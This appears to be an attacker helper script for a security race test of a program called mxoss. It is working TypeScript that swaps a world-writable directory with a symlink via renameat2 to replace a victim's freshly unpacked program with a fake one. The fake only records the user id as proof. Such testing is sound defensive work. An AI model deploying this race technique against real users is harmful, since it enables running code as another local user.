/**
 * Another local user, who tries to get a program of his started by somebody who starts mxoss for the first time: run by
 * race_test.ts.
 *
 *     attacker.ts PLACE BAIT
 *
 * PLACE is where the victim will look for the unpacked program, in a directory where anybody may write; BAIT a
 * directory of the victim's. Time and again a link to BAIT and a directory of the attacker's change places there, each
 * in one step of the system, so that a check of the one can be followed by the use of the other. What the victim makes
 * in the directory the attacker exchanges for his own.
 */
const [place, bait] = Deno.args as [string, string];
const RENAME_EXCHANGE = 2;
const AT_FDCWD = -100;
const bytes = (text: string) => new TextEncoder().encode(`${text}\0`);
const libc = Deno.dlopen("libc.so.6", {
  renameat2: { parameters: ["i32", "buffer", "i32", "buffer", "u32"], result: "i32" },
});

/** Says that a program of the attacker's was run, and by whom. */
const DENO = `#!/bin/sh\nid -u >>"${place}.proof"\n`;

/** Makes a directory that looks like the unpacked program. */
function fake(path: string): void {
  Deno.mkdirSync(`${path}/models/tiny`, { recursive: true });
  for (const name of ["main.js", "complete", "models/tiny/weights"]) Deno.writeTextFileSync(`${path}/${name}`, "");
  Deno.writeTextFileSync(`${path}/deno`, DENO);
  Deno.chmodSync(`${path}/deno`, 0o755);
}

Deno.mkdirSync(place);
Deno.chmodSync(place, 0o777);
// Where the directory is, whatever its name is at the time.
Deno.chdir(place);
Deno.symlinkSync(bait, `${place}.link`);
Deno.writeTextFileSync(`${place}.proof`, "");
Deno.chmodSync(`${place}.proof`, 0o666);
fake("fake");
console.log("ready");

const paths = [bytes(place), bytes(`${place}.link`)] as const;
for (let turn = 0;; turn++) {
  libc.symbols.renameat2(AT_FDCWD, paths[0], AT_FDCWD, paths[1], RENAME_EXCHANGE);
  for (const { name } of Deno.readDirSync(".")) {
    if (!name.startsWith(".part.")) continue;
    try {
      Deno.renameSync(name, `stolen${turn}`);
      Deno.renameSync("fake", name);
      // The victim must find it where it made its own.
      if (Deno.lstatSync(place).isSymlink) {
        libc.symbols.renameat2(AT_FDCWD, paths[0], AT_FDCWD, paths[1], RENAME_EXCHANGE);
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      Deno.renameSync(name, `used${turn}`);
      fake("fake");
    } catch {
      // The victim was faster.
    }
  }
}
